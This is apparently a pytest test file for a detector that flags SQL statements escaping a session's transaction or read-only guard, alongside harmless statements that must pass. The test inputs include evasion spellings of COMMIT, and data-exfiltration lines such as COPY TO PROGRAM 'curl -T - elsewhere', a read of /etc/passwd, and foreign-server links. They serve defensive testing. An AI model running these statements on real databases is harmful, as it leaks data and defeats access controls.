"""Ways around a session are found however they are spelled, and nothing else is taken for one."""

from __future__ import annotations

import sqlite3

import pytest
from hypothesis import given
from hypothesis import strategies as st

from residency.storage.statements import goes_around

AROUND = [
    "COMMIT",
    " /* so */ -- and so\n end transaction",
    "commit prepared 'x'",
    "prepare transaction 'x'",
    "rollback",
    "rollback work",
    "abort",
    "begin immediate",
    "start transaction read write",
    "SELECT 1; COMMIT",
    "SELECT ';' ; COMMIT",
    "SELECT $$;$$; COMMIT",
    "SELECT $a$ $$ $a$; COMMIT",
    r"SELECT E'\';'; COMMIT",
    r"SELECT '\'; COMMIT",
    "SELECT 1;/* /* */ */ COMMIT",
    "/* /* */ COMMIT",
    "--\rCOMMIT",
    "--\r/*\nCOMMIT",
    "\ufeffCOMMIT",
    ";;COMMIT",
    "ATTACH DATABASE 'sg.db' AS elsewhere",
    "VACUUM INTO 'sg.db'",
    "PRAGMA query_only = OFF",
    "PRAGMA main . query_only(0)",
    "SET TRANSACTION READ WRITE",
    "SET/**/TRANSACTION READ WRITE",
    "SET LOCAL transaction_read_only = off",
    'SET "transaction_read_only" = off',
    r'SET U&"transaction\005fread_only" TO off',
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET session transaction read write",
    "RESET transaction_read_only",
    "RESET ALL",
    "set standard_conforming_strings = off",
    "COPY person TO PROGRAM 'curl -T - elsewhere'",
    "COPY person FROM '/etc/passwd'",
    "COPY (SELECT 1 AS stdout) TO PROGRAM 'curl -T - elsewhere'",
    """COPY person ("stdout") TO '/mnt/elsewhere'""",
    "COPY person (stdin) FROM PROGRAM 'curl elsewhere' WHERE id IN (SELECT stdin)",
    "COPY (SELECT a FROM stdin) TO '/mnt/elsewhere'",
    "ALTER SYSTEM SET fsync = off",
    "ALTER SERVER there OPTIONS (SET host 'elsewhere')",
    "ALTER SUBSCRIPTION s CONNECTION 'host=elsewhere'",
    "ALTER USER MAPPING FOR app SERVER there OPTIONS (SET user 'x')",
    "CREATE USER MAPPING FOR app SERVER there",
    "CREATE PUBLICATION p FOR ALL TABLES",
    "CREATE EXTENSION dblink",
    "SELECT set_config('synchronous_commit', 'off', false)",
    "select pg_catalog . set_config ( 'TRANSACTION_READ_ONLY' , 'off', false)",
    "CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw",
    "CREATE SUBSCRIPTION s CONNECTION 'host=elsewhere' PUBLICATION p",
    "LOAD 'library'",
]
WITHIN = [
    "SELECT 1",
    "select 'COMMIT; END'",
    "INSERT INTO t VALUES ('1; COMMIT')",
    'SELECT "a;COMMIT" FROM t;',
    "SELECT 1 /* ; COMMIT */",
    "SELECT 1 -- ; COMMIT",
    "SELECT $body$ ; COMMIT $body$;",
    "DO $$ BEGIN PERFORM 1; COMMIT; END $$",
    "SELECT $1; SELECT $2",
    "SAVEPOINT sa_savepoint_1",
    "ROLLBACK TO SAVEPOINT sa_savepoint_1",
    "rollback work to a",
    "RELEASE SAVEPOINT sa_savepoint_1",
    "SET LOCAL statement_timeout = 100",
    "SET CONSTRAINTS ALL DEFERRED",
    "PRAGMA table_info(person)",
    "COPY person TO STDOUT",
    "COPY (SELECT id FROM person) TO STDOUT WITH (FORMAT csv)",
    "COPY person (id, name) FROM STDIN BINARY",
    "SELECT set_config('app.tenant', '42', true)",
    "ALTER TABLE person ADD COLUMN age integer",
    "CREATE TABLE t (id text)",
    "CREATE TABLE commit_log (x TEXT)",
    "WITH q AS (SELECT 1) SELECT * FROM q",
    "EXPLAIN SELECT 1",
    "",
]


@pytest.mark.parametrize("text", AROUND)
def test_a_way_around_is_found_however_it_is_spelled(text: str) -> None:
    assert goes_around(text)


@pytest.mark.parametrize("text", WITHIN)
def test_what_stays_within_the_transaction_is_let_through(text: str) -> None:
    assert not goes_around(text)


PIECES = st.lists(
    st.sampled_from(["COMMIT", "--", "/*", "*/", "\n", "\r", "'", '"', "[", "]", "`", ";", " ", "SELECT 1", "x", "\\"]),
    max_size=8,
)


@given(PIECES)
def test_whatever_ends_a_transaction_of_sqlite_was_found_before(pieces: list[str]) -> None:
    text = "".join(pieces)
    connection = sqlite3.connect(":memory:", isolation_level=None)
    try:
        connection.execute("BEGIN")
        try:
            connection.execute(text)
        except (sqlite3.Error, sqlite3.Warning):
            return
        assert connection.in_transaction or goes_around(text)
    finally:
        connection.close()


@given(PIECES)
def test_any_text_is_read_to_its_end(pieces: list[str]) -> None:
    assert goes_around("".join(pieces)) in (True, False)
